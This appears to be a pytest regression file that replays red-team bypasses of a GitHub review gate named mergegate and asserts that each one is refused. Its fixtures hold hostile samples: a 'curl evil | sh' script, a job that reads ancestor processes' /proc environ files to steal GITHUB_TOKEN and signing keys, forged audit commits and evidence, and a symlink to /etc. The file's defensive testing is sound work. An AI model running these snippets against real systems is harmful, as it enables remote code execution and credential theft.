"""The red team's bypasses of the GitHub review path (notes/redteam-gh.md), each closed.

Each test drives a real gate (real git, real keys, the loopback API) into the attack and
asserts the job did not run and why; each fails on the code before its fix.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.helpers.fake_github import PullRequest, ago, user
from tests.helpers.github_world import ALICE, BOB, DAVE, GITHUB, GithubGate
from tests.helpers.repos import job_yaml, policy_yaml

OFFLINE = {"GITHUB_API_URL": "http://127.0.0.1:9", "GITHUB_REPOSITORY": "acme/gate"}


def run(gate: GithubGate, **env: str) -> dict[str, Any]:
    result = gate.run_once(env=env)
    assert result.code in (0, 1), result.err
    return result.json()  # type: ignore[no-any-return]


def started(gate: GithubGate) -> list[str]:
    return sorted(str(r["job"]) for r in gate.world.events("started"))


def reasons(out: dict[str, Any]) -> dict[str, str]:
    return {str(j["job"]): str(j.get("reason") or "") for j in out["jobs"]}


# --- F1: a squash is judged with the facts of a merge of the PR head ------------------------------


def test_f1_squash_keeps_require_signed_proposals(gate: GithubGate) -> None:
    gate.setup(require_signed_proposals=True)
    pr = gate.open_pr("backup")  # mallory's unsigned commit
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert started(gate) == []
    assert reasons(out)["backup"].startswith("require_signed_proposals: commit ")


def test_f1_squash_excludes_the_git_author_of_the_job(gate: GithubGate) -> None:
    """bob writes the job (git author bob) and pushes it from an unlisted account (999), then
    approves it with his listed one: as for a merge commit, the author of the job does not count."""
    w = gate.world
    gate.setup()
    pr = gate.open_pr("backup", who=w.bob, author=999)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert started(gate) == []
    assert "bob (review 1 on PR #1: author of " in reasons(out)["backup"]


def _pr_with_symlink(gate: GithubGate) -> PullRequest:
    w = gate.world
    pr = gate.open_pr("backup")
    w.git("proposer", "checkout", "-q", "backup")
    (w.clone("proposer") / "escape").symlink_to("/etc")
    w.git("proposer", "add", "-A")
    w.git("proposer", "commit", "-q", "-m", "link", who=w.mallory)
    w.git("proposer", "push", "-q", "-f", "origin", "backup")
    head = w.git("proposer", "rev-parse", "HEAD")
    w.git("proposer", "push", "-q", "-f", "origin", f"{head}:refs/pull/{pr.number}/head")
    pr.commits.append(gate._commit(head, DAVE))
    pr.head_sha = head
    gate.fake.review(pr.number, BOB, "APPROVED", head)
    return pr


def test_f1_squash_refuses_an_escaping_symlink(gate: GithubGate) -> None:
    gate.setup()
    gate.merge(_pr_with_symlink(gate), method="squash")
    out = run(gate)
    assert started(gate) == [] and "outside the workspace" in reasons(out)["backup"]


def test_f1_squash_refuses_a_duplicate_job_id(gate: GithubGate) -> None:
    gate.setup()
    gate.reviewed_merge("backup", ALICE)
    assert run(gate)["jobs"][0]["status"] == "succeeded"
    gate.reviewed_merge(
        "again",
        ALICE,
        {"jobs/other/backup.yaml": job_yaml("backup", ["echo", "twice"])},
        method="squash",
    )
    out = run(gate)
    assert started(gate) == ["backup"]
    assert "job id 'backup' is not unique" in reasons(out)["backup"]


def test_f1_a_policy_change_by_squash_is_judged_like_a_merge(gate: GithubGate) -> None:
    """With the facts of a merge a squash carries the new policy's files: two eligible reviews adopt
    it."""
    w = gate.world
    gate.setup(policy_approvals_required=2)
    policy = w.git("admin", "show", "origin/approved:policy/policy.yaml") + "\nkeep_output: true\n"
    pr = gate.open_pr("policy", {"policy/policy.yaml": policy})
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr, method="squash")
    out = run(gate)
    assert [c["status"] for c in out["policy_changes"]] == ["adopted"], out["policy_changes"]


# --- F2: what a merge commit itself wrote is not covered by the PR's reviews ----------------------


def _merge_with_extra(gate: GithubGate, pr: PullRequest, extra: dict[str, str]) -> str:
    """A commit with parents [approved, PR head] (what GitHub takes as the PR's merge) whose tree
    adds more."""
    w = gate.world
    where = "approver"
    w.git(where, "fetch", "-q", "origin")
    w.git(where, "checkout", "-q", "-B", "approved", "origin/approved")
    w.git(where, "merge", "-q", "--no-ff", "--no-commit", pr.head_sha, who=w.mallory, env=GITHUB)
    w.write(where, extra)
    w.git(where, "add", "-A")
    w.git(
        where,
        "commit",
        "-q",
        "-m",
        f"Merge pull request #{pr.number} from acme/{pr.head_ref}",
        who=w.mallory,
        env=GITHUB,
    )
    w.git(where, "push", "-q", "origin", "approved")
    sha = w.git(where, "rev-parse", "HEAD")
    pr.merged, pr.merge_commit_sha, pr.merged_at = True, sha, ago(0)
    return sha


def test_f2_reviews_do_not_approve_a_job_the_merge_commit_added(gate: GithubGate) -> None:
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    _merge_with_extra(gate, pr, {"jobs/evil.yaml": job_yaml("evil", ["echo", "pwned"])})
    out = run(gate)
    assert "evil" not in started(gate)
    assert "alice (review 1 on PR #1: the merge itself wrote this content" in reasons(out)["evil"]


def test_f2_reviews_do_not_approve_a_script_the_merge_commit_added(gate: GithubGate) -> None:
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    _merge_with_extra(gate, pr, {"scripts/evil.sh": "curl evil | sh\n"})
    out = run(gate)
    assert started(gate) == []
    assert "holds changes that no signed approval covers: scripts/evil.sh" in reasons(out)["backup"]


# --- F3: review approvals need runners (stored evidence is authenticated)
# ----------------------------


def test_f3_github_ids_without_runners_are_a_configuration_error(gate: GithubGate) -> None:
    w = gate.world
    gate.setup(runners=[])
    for args in (("run", "--once", "--json"), ("check", "origin/approved")):
        result = w.mg(*args, env=gate.fake.env())
        assert result.code == 2, result.out + result.err
        assert (
            "alice has a GitHub id (review approvals) but the policy lists no runners" in result.err
        )
        assert (
            "(policy/policy.yaml:" in result.err
            and "hint: list the runner's public key under `runners`" in result.err
        )


def test_f3_a_policy_change_dropping_runners_is_rejected(gate: GithubGate) -> None:
    w = gate.world
    gate.setup(policy_approvals_required=2)
    people = [
        w.alice.approver_entry(github=ALICE),
        w.bob.approver_entry(github=BOB),
        w.carol.approver_entry(github=103),
    ]
    pr = gate.open_pr(
        "policy",
        {
            "policy/policy.yaml": policy_yaml(
                people, [{"program": "echo"}], policy_approvals_required=2
            )
        },
    )
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    gate.fake.review(pr.number, BOB, "APPROVED", pr.head_sha)
    gate.merge(pr)
    [change] = run(gate)["policy_changes"]
    assert change["status"] == "rejected" and "lists no runners" in change["reason"]


_ = user


# --- A1b / A1: audit commits are checked by the policy derived with the same review evidence ------


def _rotation(gate: GithubGate, tmp_path: Any) -> tuple[Any, Any, str]:
    """runners [k1]; a job run by k1; then a policy change P, approved by two reviews, rotating k1
    -> k2."""
    from tests.helpers.keys import make_ssh_key

    w = gate.world
    k1, k2 = make_ssh_key(tmp_path / "k1", "runner1"), make_ssh_key(tmp_path / "k2", "runner2")
    approvers = [
        w.alice.approver_entry(github=ALICE),
        w.bob.approver_entry(github=BOB),
        w.carol.approver_entry(github=103),
    ]
    w.setup(
        policy_yaml(
            approvers,
            [{"program": "echo"}],
            approvals_required=1,
            policy_approvals_required=2,
            runners=[{"name": "gha", "key": k1.public_line}],
        )
    )
    gate.reviewed_merge("hello", ALICE)
    assert (
        w.run_once(
            "--signing-key", str(k1.private), "--runner-name", "gha", env=gate.fake.env()
        ).code
        == 0
    )
    rotated = policy_yaml(
        approvers,
        [{"program": "echo"}],
        approvals_required=1,
        policy_approvals_required=2,
        runners=[{"name": "gha", "key": k2.public_line}],
    )
    pr2 = gate.open_pr("rotate", {"policy/policy.yaml": rotated})
    gate.fake.review(pr2.number, ALICE, "APPROVED", pr2.head_sha)
    gate.fake.review(pr2.number, BOB, "APPROVED", pr2.head_sha)
    return k1, k2, gate.merge(pr2)


def _append_signed(
    gate: GithubGate, key: Any, approved: str, *, about: str, evidence: Any = None
) -> None:
    """One well-chained record appended to the audit branch, in a commit signed by `key` naming
    `approved`."""
    from mergegate.audit import log as audit
    from mergegate.git.repo import Repo

    w = gate.world
    where = w.checkout_audit("mallory")
    tail = audit.read_tail(Repo(where), w.git("mallory", "rev-parse", "HEAD"))
    extra = {"evidence": [evidence.sha256]} if evidence is not None else {}
    [record] = audit.seal(
        [
            audit.draft(
                "rejected",
                runner="gha",
                job="decoy",
                path="jobs/decoy.yaml",
                blob="0" * 40,
                commit=about,
                reason="x",
                **extra,
            )
        ],
        after_seq=tail.last_seq,
        after_hash=tail.last_hash,
    )
    log = where / str(tail.last_file)
    log.write_bytes(log.read_bytes() + record.line())
    if evidence is not None:
        (where / evidence.path).parent.mkdir(parents=True, exist_ok=True)
        (where / evidence.path).write_bytes(evidence.to_bytes())
    w.git("mallory", "add", "-A")
    w.git(
        "mallory",
        "commit",
        "-q",
        "-S",
        "-m",
        "forged",
        "-m",
        f"Mergegate-Approved: {approved}",
        sign=key,
    )
    w.git("mallory", "push", "-q", "origin", "HEAD:refs/heads/mergegate/audit")


def _forged_evidence(commit: str, head: str, number: int, reviewer: int) -> Any:
    import hashlib
    import json

    from mergegate.github.evidence import Evidence, Exchange

    base, now = "http://api.invalid/repos/acme/gate", ago(0)

    def ex(path: str, body: Any) -> Exchange:
        text = json.dumps(body)
        return Exchange(
            f"{base}{path}", 200, "FORGED", now, hashlib.sha256(text.encode()).hexdigest(), text
        )

    pr = {
        "number": number,
        "merged": True,
        "merged_at": now,
        "merge_commit_sha": commit,
        "user": user(999),
        "commits": 1,
        "head": {"sha": head, "ref": "evil"},
        "base": {"ref": "approved", "repo": {"full_name": "acme/gate"}},
    }
    commits = [
        {
            "sha": head,
            "author": user(999),
            "committer": user(999),
            "commit": {"author": {"date": "2001-01-01T00:00:00Z"}, "message": "x"},
        }
    ]
    reviews = [
        {
            "id": 1,
            "user": user(reviewer),
            "state": "APPROVED",
            "commit_id": head,
            "submitted_at": ago(-1),
        }
    ]
    return Evidence(
        commit,
        "acme/gate",
        "http://api.invalid",
        number,
        (
            ex(f"/commits/{commit}/pulls?per_page=100", [pr]),
            ex(f"/pulls/{number}", pr),
            ex(f"/pulls/{number}/reviews?per_page=100", reviews),
            ex(f"/pulls/{number}/commits?per_page=100", commits),
            ex(f"/issues/{number}/timeline?per_page=100", []),
        ),
        now,
    )


def test_a1b_a_removed_runner_key_is_refused_while_the_walk_waits(
    gate: GithubGate, tmp_path: Any
) -> None:
    """While the walk waits at the rotation P (GitHub's lookup is empty for a pass), a k1-signed
    audit commit naming P, with forged evidence for mallory's later merge E, is not checked by a
    policy computed without reviews: the check is not yet, and once P is derivable it is
    tampering."""
    w = gate.world
    k1, k2, p = _rotation(gate, tmp_path)
    head = w.propose("evil", {"jobs/evil.yaml": job_yaml("evil", ["echo", "pwned"])}, who=w.mallory)
    w.checkout_approved("mallory")
    w.git("mallory", "merge", "-q", "--no-ff", "-m", "merge evil", head, who=w.mallory)
    e = w.git("mallory", "rev-parse", "HEAD")
    _append_signed(gate, k1, p, about=e, evidence=_forged_evidence(e, head, 9, ALICE))
    gate.fake.fail(f"/commits/{p}/pulls", "empty", times=1)
    args = ("--signing-key", str(k2.private), "--runner-name", "gha")
    first = w.run_once(*args, env=gate.fake.env())
    assert (
        first.code == 1
        and "the audit commits new since the last pass cannot be checked yet" in first.err
    ), first.err
    w.git("mallory", "push", "-q", "origin", f"{e}:refs/heads/approved")
    second = w.run_once(*args, env=gate.fake.env())
    assert second.code == 3 and "signed" in second.err, second.err
    assert started(gate) == ["hello"]


def test_a1_audit_verify_judges_runner_keys_by_review_approved_policy_changes(
    gate: GithubGate, tmp_path: Any
) -> None:
    w = gate.world
    k1, k2, p = _rotation(gate, tmp_path)
    assert (
        w.run_once(
            "--signing-key", str(k2.private), "--runner-name", "gha", env=gate.fake.env()
        ).code
        == 0
    )
    honest = w.mg("audit", "verify", where="fresh")
    assert honest.code == 0, honest.out + honest.err  # the new key's commits are the runner's
    _append_signed(gate, k1, p, about=p)
    forged = w.mg("audit", "verify", where="fresh2")
    assert forged.code == 3 and "signed" in forged.err, forged.out + forged.err


# --- T1: a job without a sandbox cannot read the action's token or signing key from /proc
# -----------


def test_t1_the_action_step_leaves_no_process_holding_the_secrets(tmp_path: Any) -> None:
    """The action's own `run` script, with mergegate replaced by a stand-in that runs one job the
    real executor way (sandbox none, harden_runner). As a non-root uid (as on a hosted runner) the
    job walks its ancestors' /proc/<pid>/environ: no shell may be left holding the token or the
    key."""
    import os
    import shutil
    import sys
    from pathlib import Path

    import yaml

    import mergegate

    if shutil.which("setpriv") is None or os.geteuid() != 0:
        pytest.skip("needs root to drop to uid 65534 with setpriv")
    step = next(
        s
        for s in yaml.safe_load((Path(__file__).parents[2] / "action.yml").read_text())["runs"][
            "steps"
        ]
        if s.get("id") == "mergegate"
    )
    from tests.helpers.readable import for_others

    # uid 65534 must reach both, wherever the checkout is (a 0700 /root included)
    src = str(for_others(Path(mergegate.__file__).resolve().parent.parent))
    site = str(for_others(Path(next(p for p in sys.path if p.endswith("site-packages")))))
    import tempfile

    work = Path(tempfile.mkdtemp(dir="/tmp"))  # pytest's tmp_path is not reachable for another uid
    try:
        _t1_step_with_a_stand_in(work, step, src, site)
    finally:
        shutil.rmtree(work, ignore_errors=True)  # (the job's workspace too: it is made in there)


def _t1_step_with_a_stand_in(work: Any, step: dict[str, str], src: str, site: str) -> None:
    import shutil
    import subprocess

    (work / "venv" / "bin").mkdir(parents=True)
    for d in (work, work / "venv", work / "venv" / "bin"):
        d.chmod(0o777)
    job = (
        'p=$PPID; while [ "$p" -gt 1 ]; do tr "\\0" "\\n" </proc/$p/environ 2>/dev/null '
        '| grep -E "^(GITHUB_TOKEN|MG_SIGNING_KEY|GIT_CONFIG_VALUE_0)=" | rev; p=$(cut -d" " -f4 '
        "/proc/$p/stat); done"
    )
    stand_in = work / "venv" / "bin" / "mergegate"
    stand_in.write_text(f"""#!/usr/bin/python3
import sys, tempfile
from pathlib import Path
sys.path[:0] = [{src!r}, {site!r}]
from mergegate.execution import executor
ws = Path(tempfile.mkdtemp(dir={str(work)!r}))
req = executor.ExecRequest(argv=("sh", "-c", {job!r}), workspace=ws, cwd="",
                           env={{"PATH": "/usr/bin:/bin"}}, secrets=(),
                           limits=executor.ProcessLimits(timeout_seconds=10),
                           search_path="/usr/bin:/bin",
                           run_id="t1")
print("JOB:" + executor.run(req).stdout.tail.replace(chr(10), "|"))
""")
    stand_in.chmod(0o755)
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(work),
        "GITHUB_TOKEN": "ghs_SECRET_runner_token",
        "MG_SIGNING_KEY": "runner-private-key-SECRET",
        "MG_VENV": str(work / "venv"),
        "MG_KEY_DIR": str(work / "key"),
        "MG_COMMAND": "run",
        "MG_BASE": "approved",
        "MG_RUNNER_NAME": "gha",
        "MERGEGATE_TRUST_ROOT": "0" * 40,
        "MG_JOB": "",
        "MG_LABELS": "",
        "MG_REPORT": "false",  # (Actions sets every input's env, the default included)
        "GITHUB_SERVER_URL": "https://github.com",
    }
    proc = subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "env",
            "-i",
            *(f"{k}={v}" for k, v in env.items()),
            "bash",
            "-c",
            step["run"],
        ],
        capture_output=True,
        text=True,
        cwd=str(work),
    )
    shutil.rmtree(work / "venv", ignore_errors=True)
    lines = [line for line in proc.stdout.splitlines() if line.startswith("JOB:")]
    assert len(lines) == 1, proc.stdout[-500:] + proc.stderr[-500:]
    line = lines[0]
    stolen = [part[::-1] for part in line[4:].split("|") if part]
    assert not any("SECRET" in s or s.startswith("GIT_CONFIG_VALUE_0") for s in stolen), stolen
    assert (work / "key" / "key").stat().st_mode & 0o777 == 0o600


# --- F4: a base change invalidates earlier reviews, as a force-push does
# ----------------------------


def test_f4_a_review_before_the_base_changed_does_not_count(gate: GithubGate) -> None:
    """A PR opened into a decoy branch (its diff shows only nice.yaml), approved, then retargeted to
    approved: evil.yaml from the decoy comes along. The review predates the base change."""
    w = gate.world
    gate.setup()
    w.propose("decoy", {"jobs/evil.yaml": job_yaml("evil", ["echo", "pwned"])}, who=w.mallory)
    head = w.propose(
        "feature",
        {"jobs/nice.yaml": job_yaml("nice", ["echo", "nice"])},
        who=w.mallory,
        base="origin/decoy",
    )
    w.git("proposer", "push", "-q", "origin", f"{head}:refs/pull/1/head")
    gate.numbers = 1
    decoy = w.git("proposer", "rev-parse", "origin/decoy")
    pr = PullRequest(
        number=1,
        author=DAVE,
        head_sha=head,
        merge_commit_sha="",
        merged=False,
        head_ref="feature",
        commits=[gate._commit(decoy, DAVE), gate._commit(head, DAVE)],
    )
    gate.fake.add_pull(pr)
    gate.fake.review(1, ALICE, "APPROVED", head, minutes_ago=-0.1)
    retarget = {
        "id": 777,
        "node_id": "BRCE_1",
        "event": "base_ref_changed",
        "actor": user(DAVE),
        "created_at": ago(-1),
        "commit_id": None,
    }
    original = pr.timeline
    pr.timeline = lambda: [*original(), retarget]  # type: ignore[method-assign]
    gate.merge(pr)
    out = run(gate)
    assert started(gate) == []
    assert (
        "submitted before the pull request last changed (force-push, base change"
        in reasons(out)["evil"]
    )


# --- D1: comment spam neither freezes the gate nor approves
# --------------------------------------------


def test_d1_a_timeline_past_fifty_pages_is_read_and_judged(gate: GithubGate) -> None:
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    spam = [
        {
            "id": 50000 + i,
            "event": "commented",
            "actor": user(424242),
            "created_at": ago(5),
            "body": "+1",
        }
        for i in range(5001)
    ]
    original = pr.timeline
    pr.timeline = lambda: [*original(), *spam]  # type: ignore[method-assign]
    gate.merge(pr)
    out = run(gate)
    assert out["waiting"] is None and started(gate) == ["backup"], out


def test_d1_past_the_bounds_a_merge_is_refused_not_waited_for(
    gate: GithubGate, monkeypatch: pytest.MonkeyPatch
) -> None:
    from datetime import UTC, datetime

    from mergegate.git.repo import Repo
    from mergegate.github import gather as github
    from mergegate.github.evidence import Evidence
    from mergegate.rules.policy import load_policy

    w = gate.world
    gate.setup()
    pr = gate.open_pr("backup")
    gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
    spam = [
        {
            "id": 50000 + i,
            "event": "commented",
            "actor": user(424242),
            "created_at": ago(5),
            "body": "+1",
        }
        for i in range(250)
    ]
    original = pr.timeline
    pr.timeline = lambda: [*original(), *spam]  # type: ignore[method-assign]
    sha = gate.merge(pr)
    monkeypatch.setattr(github, "MAX_TIMELINE_PAGES", 2)
    w.git("runner", "fetch", "-q", "origin")
    repo = Repo(w.clone("runner"))
    parent = repo.commit(sha).parents[0]
    policy = load_policy(lambda p: repo.read_file(parent, p), commit=parent)
    settings = github.Settings(gate.fake.url, "acme/gate", "ghs_token_xyz")
    result = github.review(
        repo,
        policy,
        sha,
        now=datetime.now(UTC),
        settings=settings,
        remote="origin",
        client=settings.client(max_wait=5, sleep=lambda s: None),
    )
    assert result.verdict.refused.startswith(
        "GitHub's answers about PR #1 pass mergegate's bounds (GET "
    )
    assert "more than 2 pages" in result.verdict.refused and result.verdict.votes == ()
    # The refusal is re-derived offline from what was stored, and the marker survives a round trip.
    stored = Evidence.from_bytes(result.evidence.to_bytes(), name=result.evidence.sha256)
    again = github.review(repo, policy, sha, now=datetime.now(UTC), stored=stored)
    assert again.verdict.refused == result.verdict.refused


# --- B1: run --dry-run on a review-approved job
# -----------------------------------------------------


def test_b1_dry_run_previews_a_review_approved_job(gate: GithubGate) -> None:
    gate.setup()
    gate.reviewed_merge("backup", ALICE)
    result = gate.world.mg("run", "--dry-run", "--json", *gate.runner_args, env=gate.fake.env())
    assert result.code == 0, result.err
    assert [(j["job"], j["status"]) for j in result.json()["jobs"]] == [("backup", "would run")]


# --- H1-H3: the HTTP client and GITHUB_API_URL ----------------------------------------------------


def _client(handler: Any, base: str = "https://api.github.com", **kw: Any) -> Any:
    import httpx

    from mergegate.github.http import Client

    return Client(
        base,
        token="ghs_secret_token_value",
        transport=httpx.MockTransport(handler),
        sleep=lambda s: None,
        **kw,
    )


@pytest.mark.parametrize("retry_after", ["0", "-5", "Wed, 21 Oct 2015 07:28:00 GMT"])
def test_h1_a_zero_or_past_retry_after_is_bounded(retry_after: str) -> None:
    import httpx

    from mergegate.github.http import RateLimited

    calls = []

    def handler(request: httpx.Request) -> httpx.Response:
        calls.append(1)
        if len(calls) > 50:
            raise RuntimeError("still asking")
        return httpx.Response(
            429, headers={"retry-after": retry_after}, json={"message": "slow down"}
        )

    slept: list[float] = []
    client = _client(handler)
    client._sleep = slept.append
    with pytest.raises(RateLimited):
        client.get("/repos/acme/gate/pulls/1")
    assert len(calls) == 4 and slept == [1.0, 1.0, 1.0]  # at most 3 retries, each at least a second


def test_h1_one_client_per_pass_shares_the_wait_budget(gate: GithubGate) -> None:
    from datetime import UTC, datetime

    from mergegate.git.repo import Repo
    from mergegate.github import gather as github
    from mergegate.rules.policy import load_policy

    w = gate.world
    gate.setup()
    shas = []
    for name in ("one", "two"):
        pr = gate.open_pr(name)
        gate.fake.review(pr.number, ALICE, "APPROVED", pr.head_sha)
        shas.append(gate.merge(pr))
    w.git("runner", "fetch", "-q", "origin")
    repo = Repo(w.clone("runner"))
    source = github.ReviewSource(
        repo,
        now=datetime.now(UTC),
        settings=github.Settings(gate.fake.url, "acme/gate", "t"),
        remote="origin",
    )
    for sha in shas:
        parent = repo.commit(sha).parents[0]
        source.outcome(
            sha, load_policy(lambda p, parent=parent: repo.read_file(parent, p), commit=parent)
        )  # type: ignore[misc]
    assert (
        source.client is not None
    )  # the one client both lookups used (its `waited` is the pass's)


@pytest.mark.parametrize(
    "url", ["http://ghe.example.com/api/v3", "http://10.0.0.1", "ftp://api.github.com"]
)
def test_h2_plain_http_is_refused_except_on_loopback(url: str) -> None:
    from mergegate.errors import UsageError
    from mergegate.github import gather as github
    from mergegate.github.http import Unreachable

    with pytest.raises(UsageError, match="GITHUB_API_URL="):
        github.Settings.from_env({"GITHUB_REPOSITORY": "acme/gate", "GITHUB_API_URL": url})
    with pytest.raises(Unreachable):
        _client(lambda request: None, base=url)
    for loopback in ("http://127.0.0.1:8080", "http://[::1]:8080/api", "http://localhost:1"):
        assert (
            github.Settings.from_env({"GITHUB_REPOSITORY": "acme/gate", "GITHUB_API_URL": loopback})
            is not None
        )


def test_h3_credentials_in_the_api_url_are_refused_and_never_echoed() -> None:
    from mergegate.errors import UsageError
    from mergegate.github import gather as github
    from mergegate.github.http import Unreachable

    url = "https://x-access-token:ghp_leakedtoken@ghe.example.com/api/v3"
    with pytest.raises(UsageError, match="holds credentials") as info:
        github.Settings.from_env({"GITHUB_REPOSITORY": "acme/gate", "GITHUB_API_URL": url})
    assert "ghp_leakedtoken" not in str(info.value) + str(info.value.hint)
    with pytest.raises(Unreachable) as unreachable:
        _client(lambda request: None, base=url)
    assert "ghp_leakedtoken" not in str(unreachable.value) + unreachable.value.url


# --- hardening ----------------------------------------------------------------------------------


def test_hardening_a_json_true_is_no_github_id() -> None:
    from mergegate.github import reviews
    from mergegate.github.http import Malformed

    with pytest.raises(Malformed):
        reviews._id(True)
    assert reviews._id(101) == 101


def test_hardening_github_id_written_as_a_float_loads() -> None:
    from mergegate.rules.policy import load_policy

    text = (
        "version: 1\napprovers:\n  - name: a\n    github: 101.0\nrunners:\n  - name: r\n    "
        "github: 5\n"
    )
    policy = load_policy(
        lambda p: text.encode() if p == "policy/policy.yaml" else None, commit="0" * 40
    )
    assert policy.github_person(101) is not None and policy.github_person(101).name == "a"  # type: ignore[union-attr]


def test_hardening_pages_of_another_repository_are_not_ours() -> None:
    import hashlib

    from mergegate.github.evidence import Evidence, Exchange

    def ex(url: str) -> Exchange:
        return Exchange(url, 200, "", "", hashlib.sha256(b"[1]").hexdigest(), "[1]")

    evidence = Evidence(
        "a" * 40,
        "acme/gate",
        "https://api.github.com",
        1,
        (
            ex("https://api.github.com/repos/acme/gate/pulls/1/reviews?per_page=100"),
            ex("https://api.github.com/repos/other/repo/pulls/1/reviews?page=2"),
        ),
        "",
    )
    assert evidence.pages("/pulls/1/reviews") == [1]


def test_hardening_a_multi_valued_rel_next_is_followed() -> None:
    from mergegate.github.http import Response

    link = (
        '<https://api.github.com/x?page=2>; rel="next last", <https://api.github.com/x?page=1>; '
        'rel="first"'
    )
    assert (
        Response("u", 200, "", "", b"", link=link).next_url() == "https://api.github.com/x?page=2"
    )
    assert (
        Response(
            "u", 200, "", "", b"", link='<https://api.github.com/x?page=1>; rel="prev first"'
        ).next_url()
        is None
    )


@pytest.mark.parametrize("pr_commits", [None, 0])
def test_hardening_an_empty_commits_listing_is_refused(pr_commits: int | None) -> None:
    import hashlib
    import json

    from mergegate.github import reviews
    from mergegate.github.evidence import Evidence, Exchange
    from mergegate.rules.policy import load_policy

    head = "b" * 40
    pr: dict[str, Any] = {"number": 1, "user": user(999), "head": {"sha": head}}
    if pr_commits is not None:
        pr["commits"] = pr_commits

    def ex(path: str, body: Any) -> Exchange:
        text = json.dumps(body)
        return Exchange(
            f"https://api.github.com/repos/acme/gate{path}",
            200,
            "",
            "",
            hashlib.sha256(text.encode()).hexdigest(),
            text,
        )

    evidence = Evidence(
        "a" * 40,
        "acme/gate",
        "https://api.github.com",
        1,
        (
            ex("/pulls/1", pr),
            ex("/pulls/1/commits?per_page=100", []),
            ex("/pulls/1/reviews?per_page=100", []),
            ex("/issues/1/timeline?per_page=100", []),
        ),
        "",
    )
    text = (
        "version: 1\napprovers:\n  - name: a\n    github: 101\nrunners:\n  - name: r\n    "
        "github: 5\n"
    )
    policy = load_policy(
        lambda p: text.encode() if p == "policy/policy.yaml" else None, commit="0" * 40
    )
    assert "authorship cannot be checked" in reviews.on_head(evidence, 1, head, policy).refused
